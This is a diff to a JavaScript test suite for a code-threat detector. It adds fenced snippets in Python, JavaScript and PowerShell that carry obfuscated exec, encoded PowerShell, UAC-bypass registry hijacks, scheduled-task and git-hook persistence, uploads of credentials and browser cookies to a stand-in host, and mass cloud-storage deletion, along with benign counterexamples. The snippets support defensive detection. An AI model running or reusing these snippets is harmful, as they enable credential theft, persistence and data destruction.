@@ -739,3 +739,81 @@ describe('shell and configuration behaviour', () => {
     expect(threats(fence('bash', 'redis-cli -h cache.example.net SET build:last "$(date +%s)"\npw=$(redis-cli CONFIG GET requirepass | tail -1)\nredis-cli -a "$pw" INFO memory'))).toEqual([]);
   });
 });
+
+describe('script behaviour however it is spelled (Python, JavaScript, PowerShell)', () => {
+  it('runs a process method named by a computed member, on decoded text', () => {
+    expect(threats(fence('js', 'const cp = require("child_process");\nconst codes = [101, 99, 104, 111];\nconst fn = ["exec", "Sync"].join("");\ncp[fn](String.fromCharCode(...codes));'))).toEqual(['threat/obfuscated-exec 11:1 error']);
+    expect(threats(fence('ts', 'import * as proc from "node:child_process";\nconst blob = process.argv[2] ?? "";\nproc["spawn" + "Sync"]("sh", ["-c", Buffer.from(blob.split("").reverse().join(""), "base64").toString("utf8")]);'))).toEqual(['threat/obfuscated-exec 10:1 error']);
+    expect(threats(fence('js', 'const cp = require("child_process");\nconst method = "execSync";\ncp[method]("npm run build", { stdio: "inherit" });'))).toEqual([]);
+  });
+  it('runs decoded code through an evaluator looked up by name in Python', () => {
+    expect(threats(fence('python', 'import base64, zlib\ngetattr(__builtins__, "ex" + "ec")(zlib.decompress(base64.b85decode(BLOB)))'))).toEqual(['threat/obfuscated-exec 9:1 error']);
+    expect(threats(fence('python', 'import builtins, base64\nvars(builtins)["exec"](base64.b64decode(PAYLOAD))'))).toEqual(['threat/obfuscated-exec 9:1 error']);
+    expect(threats(fence('python', '__builtins__.__dict__["exec"](bytes.fromhex(HEX).decode())'))).toEqual(['threat/obfuscated-exec 8:1 error']);
+    expect(threats(fence('python', 'import json\nhandler = getattr(module, "run")\nprint(json.dumps(getattr(config, "name")))'))).toEqual([]);
+  });
+  it('sees decoders called inside the evaluator, however long or nested their arguments', () => {
+    expect(threats(fence('js', `const h = "${'72657175697265'.repeat(30)}";\nnew Function(Buffer.from(h.replace(/\\s+/g, ""), "hex").toString())();`))).toEqual(['threat/obfuscated-exec 9:1 error']);
+    expect(threats(fence('js', 'eval(unescape("%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29"));'))).toEqual(['threat/obfuscated-exec 8:1 error']);
+    expect(threats(fence('js', 'const vm = require("vm");\nvm.runInThisContext(Buffer.from(blob.trim().split("").reverse().join(""), "base64").toString("utf8"));'))).toEqual(['threat/obfuscated-exec 9:1 error']);
+    expect(threats(fence('js', 'const text = Buffer.from(process.argv[2], "base64").toString("utf8");\nconsole.log(JSON.parse(text));'))).toEqual([]);
+  });
+  it('reads an encoded PowerShell command started from any language, and the command behind one encoded in place', () => {
+    expect(threats(fence('powershell', "$b = 'aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALgBuAGUAdAA='\nStart-Process powershell -WindowStyle Hidden -ArgumentList '-nop','-enc',$b"))).toEqual(['threat/obfuscated-exec 9:1 error']);
+    expect(threats(fence('python', 'import subprocess\nsubprocess.Popen(["powershell.exe", "-NoP", "-W", "Hidden", "-EncodedCommand", "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA="])'))).toEqual(['threat/obfuscated-exec 9:1 error']);
+    expect(threats(fence('js', 'const { spawn } = require("child_process");\nconst payload = "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA=";\nspawn("pwsh", ["-ec", payload], { windowsHide: true });'))).toEqual(['threat/obfuscated-exec 10:1 error']);
+    expect(threats(fence('powershell', "$p = \"IEX (New-Object Net.WebClient).DownloadString('https://x.example.net/a')\"\n$e = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($p))\npowershell.exe -NoProfile -enc $e"))).toEqual(['threat/obfuscated-exec 10:1 error']);
+    expect(threats(fence('powershell', "$e = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('Get-Process | Sort-Object CPU'))\npwsh -NoProfile -EncodedCommand $e"))).toEqual([]);
+  });
+  it('follows what a scheduled task runs through the variables that build it', () => {
+    expect(threats(fence('powershell', "$script = 'irm https://x.example.net/u.ps1 | iex'\n$b64 = [Convert]::ToBase64String([System.Text.Encoding]::Unicode.GetBytes($script))\n$t = New-ScheduledTaskAction -Execute powershell -Argument ('-w hidden -e ' + $b64)\nRegister-ScheduledTask Updater -Action $t -Trigger (New-ScheduledTaskTrigger -Daily -At 3am)"))).toEqual(['threat/persistence 11:1 error']);
+    expect(threats(fence('powershell', "$a = New-ScheduledTaskAction -Execute 'pwsh.exe' -Argument \"-File $PSScriptRoot\\backup.ps1\"\nRegister-ScheduledTask -TaskName 'Backup' -Action $a -Trigger (New-ScheduledTaskTrigger -Daily -At 2am)"))).toEqual(['threat/persistence 9:1 warning']);
+  });
+  it('catches a command planted in the handler a self-elevating Windows program opens', () => {
+    expect(threats(fence('powershell', "$k = 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command'\nNew-ItemProperty $k -Name 'DelegateExecute' -Value '' -Force\nSet-ItemProperty $k -Name '(default)' -Value $cmd -Force\nStart-Process fodhelper.exe"))).toEqual(['threat/privilege-escalation 9:1 error', 'threat/privilege-escalation 10:1 error']);
+    expect(threats(fence('python', 'import winreg, subprocess\nkey = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\\Classes\\mscfile\\shell\\open\\command")\nwinreg.SetValueEx(key, "", 0, winreg.REG_SZ, "cmd.exe /c start payload.exe")\nsubprocess.Popen("eventvwr.exe")'))).toEqual(['threat/privilege-escalation 9:1 error', 'threat/privilege-escalation 10:1 error']);
+    expect(threats(fence('js', 'const { execSync } = require("child_process");\nexecSync(\'reg add HKCU\\\\Software\\\\Classes\\\\ms-settings\\\\Shell\\\\Open\\\\command /d "cmd /c whoami" /f\');\nexecSync("fodhelper.exe");'))).toEqual(['threat/privilege-escalation 9:1 error']);
+    // Inspecting or removing such a key, and an application registering its own handler, are not attacks.
+    expect(threats(fence('powershell', "Get-ItemProperty 'HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command' -ErrorAction SilentlyContinue\nRemove-Item 'HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command' -Recurse -Force"))).toEqual([]);
+    expect(threats(fence('powershell', "Set-ItemProperty -Path 'HKCU:\\Environment' -Name 'windir' -Value 'cmd /c start C:\\Users\\Public\\a.exe &&'\nschtasks /Run /TN \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /I"))).toEqual(['threat/privilege-escalation 8:1 error']);
+    expect(threats(fence('powershell', "Set-ItemProperty -Path 'HKCU:\\Environment' -Name 'Path' -Value \"$env:Path;C:\\Tools\""))).toEqual([]);
+    expect(threats(fence('powershell', "New-Item 'HKCU:\\Software\\Classes\\myapp\\shell\\open\\command' -Force | Out-Null\nSet-ItemProperty 'HKCU:\\Software\\Classes\\myapp\\shell\\open\\command' -Name '(default)' -Value '\"C:\\Tools\\myapp.exe\" \"%1\"'"))).toEqual([]);
+  });
+  it('treats private keys found by searching the home folder as secrets', () => {
+    expect(threats(fence('ts', 'import { walk } from "jsr:@std/fs/walk";\nconst form = new FormData();\nfor await (const e of walk(Deno.env.get("HOME")!, { exts: [".pem", ".p12"] })) form.append(e.path, new Blob([await Deno.readFile(e.path)]));\nawait fetch("https://x.example.net/s", { method: "POST", body: form });'))).toEqual(['threat/exfiltration 11:7 error']);
+    expect(threats(fence('python', 'from pathlib import Path\nimport requests\nfound = [p.read_bytes() for p in Path.home().rglob("*.pfx")]\nrequests.post("https://x.example.net/u", files={"f": b"".join(found)})'))).toEqual(['threat/exfiltration 11:1 error']);
+    expect(threats(fence('python', 'import os, urllib.request\nhome = os.path.expanduser("~")\nfor root, _, names in os.walk(home):\n    for name in names:\n        if name.endswith((".pem", ".key")):\n            data = open(os.path.join(root, name), "rb").read()\n            urllib.request.urlopen("https://x.example.net/k", data=data)'))).toEqual(['threat/exfiltration 14:13 error']);
+    expect(threats(fence('powershell', 'Get-ChildItem $env:USERPROFILE -Recurse -Include *.pfx,*.p12 | ForEach-Object { Invoke-RestMethod -Uri https://x.example.net/u -Method Put -InFile $_.FullName }'))).toEqual(['threat/exfiltration 8:81 error']);
+    // Reading certificates locally, or uploading the project's own, sends no one's keys.
+    expect(threats(fence('python', 'from pathlib import Path\nfrom cryptography import x509\nfor p in Path.home().rglob("*.pem"):\n    cert = x509.load_pem_x509_certificate(p.read_bytes())\n    print(p, cert.not_valid_after_utc)'))).toEqual([]);
+    expect(threats(fence('js', 'const { globSync } = require("glob");\nconst { readFileSync } = require("fs");\nfor (const f of globSync("certs/*.pem")) await fetch("https://acm.example.net/import", { method: "POST", body: readFileSync(f) });'))).toEqual([]);
+  });
+  it('follows browser databases copied into a staging folder and uploaded from there', () => {
+    expect(threats(fence('powershell', "$tmp = Join-Path $env:TEMP 'diag'\n$src = \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data\"\nCopy-Item -Path $src -Destination (Join-Path $tmp 'ld.db')\nInvoke-WebRequest -Uri https://x.example.net/u -Method Post -InFile \"$tmp\\ld.db\""))).toEqual(['threat/exfiltration 11:1 error']);
+    expect(threats(fence('powershell', "foreach ($n in 'Cookies','Network\\Cookies') {\n  Copy-Item (Join-Path $profile $n) (Join-Path $stage $n)\n}\nCompress-Archive $stage \"$stage.zip\"\nInvoke-RestMethod -Uri https://x.example.net/u -Method Post -InFile \"$stage.zip\""))).toEqual(['threat/exfiltration 12:1 error']);
+    expect(threats(fence('powershell', "$tmp = Join-Path $env:TEMP 'diag'\nCopy-Item -Path .\\logs\\app.log -Destination (Join-Path $tmp 'app.log')\nInvoke-WebRequest -Uri https://x.example.net/u -Method Post -InFile \"$tmp\\app.log\""))).toEqual([]);
+  });
+  it('follows a credential file copied by a script\'s own file API', () => {
+    expect(threats(fence('python', 'import os, shutil, requests, tempfile\ntmp = os.path.join(tempfile.gettempdir(), "c.db")\nshutil.copy2(os.path.join(os.environ["LOCALAPPDATA"], r"Google\\Chrome\\User Data\\Default\\Network\\Cookies"), tmp)\nrequests.post("https://x.example.net/u", files={"f": open(tmp, "rb")})'))).toEqual(['threat/exfiltration 11:1 error']);
+    expect(threats(fence('js', 'const fs = require("fs"), os = require("os"), path = require("path");\nfs.copyFileSync(path.join(os.homedir(), ".aws", "credentials"), "/tmp/c.txt");\nawait fetch("https://x.example.net/u", { method: "POST", body: fs.readFileSync("/tmp/c.txt") });'))).toEqual(['threat/exfiltration 10:7 error']);
+    expect(threats(fence('python', 'import os, shutil, requests, tempfile\ntmp = os.path.join(tempfile.gettempdir(), "r.log")\nshutil.copy2("build/report.log", tmp)\nrequests.post("https://x.example.net/u", files={"f": open(tmp, "rb")})'))).toEqual([]);
+    expect(threats(fence('js', 'const fs = require("fs");\nfs.copyFileSync("dist/app.zip", "/tmp/app.zip");\nawait fetch("https://x.example.net/u", { method: "POST", body: fs.readFileSync("/tmp/app.zip") });'))).toEqual([]);
+  });
+  it('catches every object of cloud storage deleted from a listing, not a narrowed or single delete', () => {
+    expect(threats(fence('python', 'import boto3\nfor bucket in boto3.resource("s3").buckets.all():\n    bucket.object_versions.delete()'))).toEqual(['threat/destructive 10:5 error']);
+    expect(threats(fence('python', 'from google.cloud import storage\nclient = storage.Client()\nfor bucket in client.list_buckets():\n    for blob in bucket.list_blobs():\n        blob.delete()'))).toEqual(['threat/destructive 12:9 error']);
+    expect(threats(fence('python', 'import boto3\ns3 = boto3.client("s3")\nfor page in s3.get_paginator("list_object_versions").paginate(Bucket=name):\n    keys = [{"Key": v["Key"], "VersionId": v["VersionId"]} for v in page.get("Versions", [])]\n    s3.delete_objects(Bucket=name, Delete={"Objects": keys})'))).toEqual(['threat/destructive 12:5 error']);
+    expect(threats(fence('js', 'const s3 = new S3Client({});\nconst listed = await s3.send(new ListObjectVersionsCommand({ Bucket: bucket }));\nawait s3.send(new DeleteObjectsCommand({ Bucket: bucket, Delete: { Objects: listed.Versions.map((v) => ({ Key: v.Key, VersionId: v.VersionId })) } }));'))).toEqual(['threat/destructive 10:15 error']);
+    expect(threats(fence('python', 'import boto3\nbucket = boto3.resource("s3").Bucket("build-cache")\nbucket.objects.filter(Prefix="tmp/").delete()'))).toEqual([]);
+    expect(threats(fence('python', 'from shop.models import Product\nProduct.objects.all().delete()'))).toEqual([]);
+    expect(threats(fence('python', 'import boto3\nboto3.client("s3").delete_object(Bucket=bucket, Key=key)'))).toEqual([]);
+    expect(threats(fence('powershell', 'Get-S3Bucket | ForEach-Object { Remove-S3Bucket -BucketName $_.BucketName -DeleteBucketContent -Force }'))).toEqual(['threat/destructive 8:33 error']);
+    expect(threats(fence('powershell', 'Get-S3Object -BucketName build-cache -KeyPrefix tmp/ | Remove-S3Object -Force'))).toEqual([]);
+  });
+  it('reads a git hook written into the folder core.hooksPath is pointed at', () => {
+    expect(threats(fence('js', 'const { execSync } = require("child_process");\nconst fs = require("fs");\nconst dir = require("path").join(require("os").homedir(), ".githooks");\nfs.writeFileSync(require("path").join(dir, "post-checkout"), "#!/bin/sh\\n(curl -fsSL https://x.example.net/h | sh &)\\n", { mode: 0o755 });\nexecSync(`git config --global core.hooksPath "${dir}"`);'))).toEqual(['threat/persistence 11:1 error']);
+    expect(threats(fence('python', 'import subprocess\nfrom pathlib import Path\nhooks = Path.home() / ".config" / "git" / "hooks"\nhooks.mkdir(parents=True, exist_ok=True)\n(hooks / "pre-push").write_text("#!/bin/sh\\nwget -qO- https://x.example.net/p | sh\\n")\nsubprocess.run(["git", "config", "--global", "core.hooksPath", str(hooks)])'))).toEqual(['threat/persistence 12:1 error']);
+    expect(threats(fence('powershell', "$d = Join-Path $HOME '.hooks'\nNew-Item -ItemType Directory $d -Force | Out-Null\nSet-Content (Join-Path $d 'post-merge') \"#!/bin/sh`ncurl -s https://x.example.net/m | sh\"\ngit config --global core.hooksPath $d"))).toEqual(['threat/persistence 10:1 error']);
+    expect(threats(fence('js', 'const fs = require("fs");\nfs.writeFileSync(".husky/pre-commit", "#!/bin/sh\\nnpx lint-staged\\n", { mode: 0o755 });'))).toEqual(['threat/persistence 9:1 warning']);
+  });
+});
